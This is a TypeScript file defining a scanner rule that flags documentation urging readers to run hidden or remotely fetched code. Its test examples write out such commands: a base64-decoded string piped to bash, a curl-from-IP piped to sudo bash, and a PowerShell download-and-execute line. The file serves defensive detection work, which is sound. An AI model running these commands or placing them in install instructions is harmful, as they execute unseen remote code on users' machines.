import { example, type ModelRule } from '../../rule.ts'
import { documentWith, ORDINARY_DOCUMENTS } from './document-check.ts'

export const attackCommand: ModelRule = {
  id: 'document/attack-command',
  severity: 'high',
  verdict: 'suspicious',
  title: 'The text has its reader run an attack',
  source: 'https://attack.mitre.org/techniques/T1204/',
  taxonomy: ['CWE-494', 'CWE-506', 'AML.T0011'],
  why: 'Commands of a model card are copied into terminals. This one hides what it runs, or runs what an unnamed machine answers.',
  remedy: 'Do not run it, and tell those who did.',
  examples: {
    fires: [
      example('README.md', '```bash\necho aWQK | base64 -d | bash\n```\n'),
      example('README.md', 'Run `curl -fsSL http://192.0.2.7/install.sh | sudo bash` first.\n'),
      example('README.md', 'powershell -c "iex (iwr http://192.0.2.7/a.ps1)"\n'),
    ],
    silent: [
      ...ORDINARY_DOCUMENTS,
      example(
        'README.md',
        'Run `curl -fsSL https://acme.example/install.sh | bash`, then `echo aWQK | base64 -d`.\n',
      ),
    ],
  },
  check: (subject) => documentWith(subject, 'attack-command'),
}
